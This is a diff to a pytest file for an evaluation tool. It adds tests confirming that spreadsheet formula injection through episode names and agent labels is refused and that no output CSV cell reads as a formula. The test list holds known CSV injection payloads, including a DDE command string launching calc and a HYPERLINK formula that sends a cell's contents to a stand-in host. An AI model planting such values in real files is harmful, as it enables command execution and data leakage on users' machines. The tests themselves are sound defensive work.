@@ -10,6 +10,7 @@ while a run runs.
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import json
 import os
@@ -496,6 +497,78 @@ def test_an_agent_label_that_is_not_text_is_refused(tmp_path, capsys):
     line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
     assert "label" in line and "surrogate" in line, line
     assert not (tmp_path / "run").exists()
+
+
+# ---------------------------------------------------------------------------- text a spreadsheet would run
+
+# What a spreadsheet opening results.csv would run as a formula (OWASP's CSV injection list).
+FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            '=HYPERLINK("http://x/?"&A1)']
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize(
+    ("where", "field"),
+    [("mode", "labels.mode"), ("episode_id", "labels.episode_id"), ("step_mode", "steps[0].metadata.mode")],
+)
+def test_spreadsheet_formula_injection_through_an_episode_name_is_refused_when_the_file_is_read(
+    tmp_path, capsys, monkeypatch, where, field, formula
+):
+    data = json.loads(dumps_episode(generate_episode(make_config("default", length=20), 0, 0)))
+    if where == "step_mode":
+        del data["labels"]["mode"]
+        data["steps"][0]["metadata"]["mode"] = formula
+    else:
+        data["labels"][where] = formula
+    episodes = tmp_path / "ep.jsonl"
+    episodes.write_text(json.dumps(data) + "\n")
+    monkeypatch.setattr(grid_module, "run_task", lambda task: pytest.fail("the grid ran"))
+    line = refused(capsys, "eval", "--episodes", episodes, *FROM_FILES, "--out", tmp_path / "run")
+    assert line.startswith(f"wpb eval: error: {episodes}:1: {field}: expected text that a spreadsheet cannot read as "
+                           "a formula"), line
+    assert not (tmp_path / "run").exists()
+    assert f"{episodes}:1: {field}: " in refused(capsys, "inspect", episodes)
+
+
+@pytest.mark.parametrize("label", ["=1+1", "+x", "@x", "-x", "\t=1"])
+def test_spreadsheet_formula_injection_through_an_agent_label_is_refused_before_any_work(tmp_path, capsys, label):
+    config = tmp_path / "c.yaml"
+    config.write_text(f"agents: [{{name: last_kb, label: {json.dumps(label)}}}]\nlengths: [20]\n"
+                      "episodes_per_condition: 1\n")
+    line = refused(capsys, "eval", "--config", config, "--out", tmp_path / "run", "--quiet")
+    assert "label" in line and "formula" in line, line
+    assert not (tmp_path / "run").exists()
+    # The same from Python, where the grid's rows are made.
+    with pytest.raises(ValueError, match="formula"):
+        grid_module.PolicySpec(label, dict)
+    episode = generate_episode(make_config("default", length=20), 0, 0)
+    made = type(episode)(steps=episode.steps, labels={**episode.labels, "mode": label})
+    with pytest.raises(ValueError, match="formula"):
+        grid_module.given_refs([made])
+
+
+def test_no_cell_of_any_csv_file_of_a_run_reads_as_a_formula_and_results_read_back_as_written(tmp_path, capsys):
+    from wpb_gym.core.csv_cells import formula_start
+    from wpb_gym.evaluation.reports.report import read_results
+
+    # Names that only look alike: a number, and "-", "=", "@" inside a name, are not formulas.
+    episodes = write_episodes(tmp_path / "ep.jsonl", ["-1.5", "a=b", "x@y", "default"])
+    data = [json.loads(line) for line in episodes.read_text().splitlines()]
+    data[3]["labels"]["episode_id"] = "-3"
+    episodes.write_text("".join(json.dumps(d) + "\n" for d in data))
+    config = tmp_path / "agents.yaml"
+    config.write_text('agents: [fifo_store_all, {name: last_kb, label: "a+b"}]\n')
+    out = tmp_path / "run"
+    assert wpb(capsys, "eval", "--config", config, "--episodes", episodes, *FROM_FILES[2:], "--out", out)[0] == 0
+    files = sorted(out.glob("*.csv"))
+    assert {p.name for p in files} >= {"results.csv", "summary.csv", "recall_at_budget.csv", "confusion_matrix.csv"}
+    for path in files:
+        with open(path, newline="", encoding="utf-8") as handle:
+            for row in csv.reader(handle):
+                assert not [cell for cell in row if formula_start(cell)], (path.name, row)
+    rows = read_results(out / "results.csv")
+    assert {r["mode"] for r in rows} == {"-1.5", "a=b", "x@y", "default"}
+    assert {r["policy"] for r in rows} == {"fifo_store_all", "a+b"} and "-3" in {r["episode_id"] for r in rows}
 
 
 # ---------------------------------------------------------------------------- one episode twice
